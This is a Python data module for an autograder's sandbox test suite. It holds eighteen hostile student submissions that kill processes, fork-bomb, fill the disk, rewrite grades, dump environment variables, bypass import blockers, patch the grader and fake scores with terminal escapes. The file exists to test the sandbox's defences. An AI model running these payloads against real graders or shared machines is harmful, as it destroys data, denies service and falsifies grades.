"""The adversarial suite's data: a toy course, honest code, and one hostile submission per attack.

Each attack is a ``toy.py`` a motivated student could hand in. Its ``double`` does the attack and
then returns ``x`` unchanged, which honestly earns 1 point of 3 (``test_double_leaves_its_input``);
the attack *works* when it earns more (it got ``2 * x`` from somewhere it should not reach), when
it changes a neighbour's or the class's results, or when what it did is seen where the table of
README.md says it is not. ``LEVELS`` says, per isolation level, what must happen; a test checks
that README.md's table says the same.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

COURSE_YAML = "title: Toy course\nexercises:\n  - toy\n  - toy2\n"

REFERENCE = '''
import numpy as np


def double(x):
    """2 x."""
    ### BEGIN SOLUTION
    return 2 * x
    ### END SOLUTION


def coin(rng):
    """A fair bit: 0 or 1."""
    ### BEGIN SOLUTION
    return int(rng.integers(2))
    ### END SOLUTION
'''

GRADERS = '''
import numpy as np
import pytest
from grader.testing import expect_array, expect_unmodified


@pytest.mark.points(1)
@pytest.mark.time_limit(2)
def test_double(student, rng):
    """double(x) is 2 x."""
    x = rng.normal(size=(3, 4))
    expect_array(student.double(x), 2 * x)


@pytest.mark.points(1)
@pytest.mark.time_limit(2)
def test_double_leaves_its_input(student, rng):
    """double leaves x as it was."""
    expect_unmodified(student.call("double", rng.normal(size=5)))


### BEGIN HIDDEN TESTS
@pytest.mark.points(1)
@pytest.mark.time_limit(2)
def test_coin_draws_bits(student, rng):
    """coin(rng) draws 0 or 1, about as many of each (400 draws)."""
    gen = student.new("numpy.random.default_rng", 5)
    draws = student.repeat("coin", 400, gen)
    assert all(d in (0, 1) for d in draws), "coin returned something other than 0 or 1"
    assert sum(draws) <= 260, "too many ones for a fair coin"
### END HIDDEN TESTS
'''

REFERENCE2 = '''
def echo(text):
    """text, unchanged."""
    ### BEGIN SOLUTION
    return text
    ### END SOLUTION
'''

GRADERS2 = '''
import pytest


@pytest.mark.points(1)
@pytest.mark.time_limit(2)
def test_echo(student):
    """echo("hello") is "hello"."""
    assert student.echo("hello") == "hello"
'''

HONEST = """
def double(x):
    return 2 * x


def coin(rng):
    return int(rng.integers(2))
"""

HONEST2 = "def echo(text):\n    return text\n"

STUB_COIN = "\n\ndef coin(rng):\n    raise NotImplementedError\n"

# Help attacks find the worker's pipes and the runtime's objects, as a determined student would.
_FRAMES = """
import os, struct, sys

def _answer_fd():
    f = sys._getframe()
    while f is not None:
        if "fd_out" in f.f_locals:
            return f.f_locals["fd_out"]
        f = f.f_back
    raise RuntimeError("no answer pipe")

def _text(s):
    b = s.encode()
    return struct.pack("<I", len(b)) + b

def _send_raw(body, declared=None):
    fd = _answer_fd()
    os.write(fd, struct.pack("<Q", len(body) if declared is None else declared) + body)
    os._exit(0)
"""

# name -> source of toy.py (double attacks, then returns x). {OUT}, {COURSE} and {SITE} are replaced
# with the class's output folder, the course folder and the grader's site-packages: the attacker
# knows where they are.
ATTACKS: dict[str, str] = {
    "runs_as_root": """
        import os
        def double(x):
            return 2 * x if os.geteuid() == 0 or os.getuid() == 0 else x
    """,
    "finds_the_course_through_links": """
        import glob, json, os, sys
        def _candidates():
            yield "{COURSE}"
            for entry in sys.path:
                for name in os.listdir(entry) if os.path.isdir(entry) else []:
                    real = os.path.realpath(os.path.join(entry, name))
                    site = os.path.dirname(real)
                    for meta in glob.glob(os.path.join(site, "*.dist-info", "direct_url.json")):
                        try:
                            url = json.load(open(meta)).get("url", "")
                        except Exception:
                            continue
                        if url.startswith("file://"):
                            yield url[len("file://"):]
        def double(x):
            for root in _candidates():
                try:
                    source = open(os.path.join(root, "solutions", "toy.py")).read()
                except OSError:
                    continue
                ns = {}
                exec(source, ns)
                return ns["double"](x)
            return x
    """,
    "imports_torch_around_the_blocker": """
        import glob, importlib, os, sys
        def double(x):
            sys.meta_path[:] = [f for f in sys.meta_path if type(f).__name__ != "ImportBlocker"]
            sys.path += ["{SITE}", *glob.glob("/usr/lib/python3*/*-packages"),
                         *glob.glob("/usr/local/lib/python3*/*-packages"),
                         *glob.glob(sys.base_prefix + "/lib/python3*/site-packages")]
            try:
                torch = importlib.import_module("to" + "rch")
                return torch.tensor(x).mul(2).numpy()
            except Exception:  # not there, or an empty shell of it
                return x
    """,
    "sees_system_packages": """
        import os
        def double(x):
            for top in ("/usr", "/lib", "/opt", "/etc", "/var", "/root", "/home", "/work", "/"):
                for dirpath, dirs, files in os.walk(top):
                    if dirpath.startswith(("/proc", "/sys", "/dev")) or dirpath.count(os.sep) > 8:
                        dirs[:] = []
                        continue
                    for name in dirs:
                        if name in ("torch", "scipy", "sklearn", "tensorflow", "jax", "grader"):
                            return 2 * x
                    if dirpath.endswith(("dist-packages", "site-packages")) and files + dirs:
                        return 2 * x
            return x
    """,
    "kills_every_process_it_sees": """
        import os, signal
        def double(x):
            me = os.getpid()
            for entry in os.listdir("/proc"):
                if entry.isdigit() and int(entry) not in (me, os.getppid()):
                    try:
                        os.kill(int(entry), signal.SIGKILL)
                    except OSError:
                        pass
            return x
    """,
    "kills_its_ancestors": """
        import os, signal
        def double(x):
            for pid in (os.getppid(), 1):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
            return x
    """,
    "lingers_and_rewrites_the_grades": """
        import os, time
        def double(x):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    for _ in range(40):
                        time.sleep(0.25)
                        for name in ("grades.csv", "pwned"):
                            try:
                                with open(os.path.join("{OUT}", name), "w") as f:
                                    f.write("pwned")
                            except OSError:
                                pass
                os._exit(0)
            return x
    """,
    "prints_the_environment": """
        import os
        def double(x):
            print(dict(os.environ))
            raise RuntimeError(repr(dict(os.environ)))
    """,
    "decoder_bomb_declared": (
        _FRAMES
        + """
        def double(x):
            _send_raw(b"L" + struct.pack("<I", 200_000_000), declared=200_000_005)
    """
    ),
    "decoder_bomb_within_the_frame": (
        _FRAMES
        + """
        def double(x):
            n = 30_000_000
            _send_raw(b"L" + struct.pack("<I", n) + b"N" * n)
    """
    ),
    "five_megabyte_message": (
        _FRAMES
        + """
        def double(x):
            body = b"M" + struct.pack("<I", 2)
            body += b"S" + _text("error") + b"S" + _text("\\x1b[2J" + "x" * 5_000_000)
            body += b"S" + _text("forbidden") + b"L" + struct.pack("<I", 0)
            _send_raw(body)
    """
    ),
    "answer_of_the_wrong_shape": (
        _FRAMES
        + """
        def double(x):
            body = b"M" + struct.pack("<I", 2)
            body += b"S" + _text("result") + b"N"
            body += b"S" + _text("args_after") + b"U" + struct.pack("<I", 0)
            _send_raw(body)
    """
    ),
    "patches_the_repeat_runner": """
        import sys
        def double(x):
            f = sys._getframe()
            while f is not None:
                runner = f.f_locals.get("self")
                if type(runner).__name__ == "Runner":
                    def run(self, name, n, args, kwargs, time_limit):
                        return {"param_names": (), "result": [] if n is not None else None,
                                "args_after": tuple(args), "kwargs_after": dict(kwargs)}
                    type(runner).run = run
                    break
                f = f.f_back
            return x
    """,
    "terminal_escapes": """
        def double(x):
            print("\\x1b[2J\\x1b[H\\x1b[32mScore: 24 / 24\\x1b[0m")
            raise ValueError("\\x1b[2J\\x1b[H\\x1b[32mScore: 24 / 24\\x1b[0m")
    """,
    "memory_across_children": """
        import os, time
        def double(x):
            r, w = os.pipe()
            children = []
            for _ in range(4):
                children.append(os.fork())
                if children[-1] == 0:
                    try:
                        hoard = bytearray(600 << 20)
                        hoard[:: 4096] = b"x" * len(hoard[:: 4096])
                        os.write(w, b"1")
                        time.sleep(30)
                    finally:
                        os._exit(0)
            os.close(w)
            got, deadline = 0, time.monotonic() + 1.5
            os.set_blocking(r, False)
            while time.monotonic() < deadline and got < 4:
                try:
                    got += len(os.read(r, 16))
                except BlockingIOError:
                    time.sleep(0.02)
            # all four reported and none was killed since: 2.4 GiB held at once
            alive = all(os.waitpid(pid, os.WNOHANG) == (0, 0) for pid in children)
            return 2 * x if got * 600 > 2048 and alive else x
    """,
    "forks_hundreds": """
        import os, time
        def double(x):
            made = 0
            for _ in range(300):
                try:
                    if os.fork() == 0:
                        time.sleep(30)
                        os._exit(0)
                    made += 1
                except OSError:
                    break
            return 2 * x if made > 40 else x
    """,
    "fills_the_disk": """
        import os
        def double(x):
            written, chunk, n = 0, b"x" * (1 << 20), 0
            for folder in ("/sandbox", "/tmp", "/dev/shm", os.getcwd(), os.environ.get("TMPDIR", "/tmp")):
                for i in range(10):
                    n += 1  # a new file each time: what is written stays written
                    try:
                        with open(os.path.join(folder, f"fill{n}"), "wb") as f:
                            for _ in range(64):
                                f.write(chunk)
                                written += len(chunk)
                    except OSError:
                        break
                    if written >= 640 << 20:
                        break
            return 2 * x if written > 256 << 20 else x
    """,
    "carries_state_to_the_next_exercise": """
        import os
        def double(x):
            for folder in ("/tmp", "/sandbox", "/dev/shm", os.getcwd(), os.environ.get("TMPDIR", "/tmp")):
                try:
                    with open(os.path.join(folder, "leak.txt"), "w") as f:
                        f.write("LEAK:" + repr(x.tolist()))
                except OSError:
                    pass
            return x
    """,
}

# toy2.py of the student with the state-carrying attack: it prints whatever it finds
CARRIED_STATE_READER = """
import os
def echo(text):
    found = []
    for folder in ("/tmp", "/sandbox", "/dev/shm", os.getcwd(), os.environ.get("TMPDIR", "/tmp")):
        try:
            found.append(open(os.path.join(folder, "leak.txt")).read())
        except OSError:
            pass
    print("found:", found or "nothing")
    return text
"""

# what each attack honestly earns (of 3) when it is defeated
HONEST_SCORE = {name: 1.0 for name in ATTACKS}
HONEST_SCORE.update(
    {
        "prints_the_environment": 0.0,
        "terminal_escapes": 0.0,
        "decoder_bomb_declared": 0.0,
        "decoder_bomb_within_the_frame": 0.0,
        "five_megabyte_message": 0.0,
        "answer_of_the_wrong_shape": 0.0,
    }
)

# attacks that kill their own sandbox: whether their answer gets out first is a race, so they earn
# their honest score or nothing
SELF_DESTRUCTIVE = {"kills_its_ancestors"}
# attacks that go over the sandbox's memory: a call that does is not taken, so the honest part they
# share a function with earns nothing too, unless the hoard was too slow to go over that time
OVER_LIMITS = {"memory_across_children"}


def earned_honestly(name: str, score: float, tests: list[dict]) -> bool:
    """The attack earned its honest score (or, for one that kills its own sandbox or goes over its
    limits, no more)."""
    double = next(t for t in tests if t["name"].endswith("test_double"))
    if name in SELF_DESTRUCTIVE | OVER_LIMITS:
        return score <= HONEST_SCORE[name] and double["status"] != "passed"
    return score == HONEST_SCORE[name]


# Per attack, what must happen at each level (bubblewrap, uid, process):
#   "defeated"  it earns only its honest score and changes nothing outside its own results;
#   "possible"  the level does not stop it (README.md says so);
# and, for a class (more than one student in one run), `dlgrade grade` refuses to start below
# bubblewrap ("refused before grading"). uid and process columns are as on a machine where the
# grader is root and may make cgroups (CI's; README.md's footnotes say what changes elsewhere).
OUTCOMES: dict[str, tuple[str, str, str]] = {
    "runs_as_root": ("defeated", "defeated", "defeated"),
    "finds_the_course_through_links": ("defeated", "defeated", "possible"),
    "imports_torch_around_the_blocker": ("defeated", "defeated", "possible"),
    "sees_system_packages": ("defeated", "possible", "possible"),
    "kills_every_process_it_sees": ("defeated", "defeated", "possible"),
    "kills_its_ancestors": ("defeated", "defeated", "possible"),
    "lingers_and_rewrites_the_grades": ("defeated", "defeated", "possible"),
    "prints_the_environment": ("defeated", "defeated", "defeated"),
    "decoder_bomb_declared": ("defeated", "defeated", "defeated"),
    "decoder_bomb_within_the_frame": ("defeated", "defeated", "defeated"),
    "five_megabyte_message": ("defeated", "defeated", "defeated"),
    "answer_of_the_wrong_shape": ("defeated", "defeated", "defeated"),
    "patches_the_repeat_runner": ("defeated", "defeated", "defeated"),
    "terminal_escapes": ("defeated", "defeated", "defeated"),
    "memory_across_children": ("defeated", "defeated", "defeated"),
    "forks_hundreds": ("defeated", "defeated", "defeated"),
    "fills_the_disk": ("defeated", "possible", "possible"),
    "carries_state_to_the_next_exercise": ("defeated", "defeated", "possible"),
}
LEVEL_NAMES = ("bubblewrap", "uid", "process")


def outcome(name: str, level: str) -> str:
    return OUTCOMES[name][LEVEL_NAMES.index(level)]


def defeated_at(level: str) -> list[str]:
    return sorted(name for name in ATTACKS if outcome(name, level) == "defeated")


def source(name: str, out: Path, course: Path) -> str:
    text = textwrap.dedent(ATTACKS[name]).lstrip()
    import importlib.util

    spec = importlib.util.find_spec("torch")
    site = Path(spec.origin).parents[1] if spec and spec.origin else Path("/nonexistent")
    text = text.replace("{OUT}", str(out)).replace("{COURSE}", str(course))
    return text.replace("{SITE}", str(site)) + STUB_COIN


def write_course(root: Path) -> Path:
    """The toy course: two exercises, toy (with a hidden statistical test) and toy2."""
    (root / "solutions").mkdir(parents=True)
    (root / "course.yaml").write_text(COURSE_YAML)
    for name, reference, graders in (("toy", REFERENCE, GRADERS), ("toy2", REFERENCE2, GRADERS2)):
        (root / "solutions" / f"{name}.py").write_text(textwrap.dedent(reference).lstrip())
        (root / "solutions" / f"test_{name}.py").write_text(textwrap.dedent(graders).lstrip())
    return root
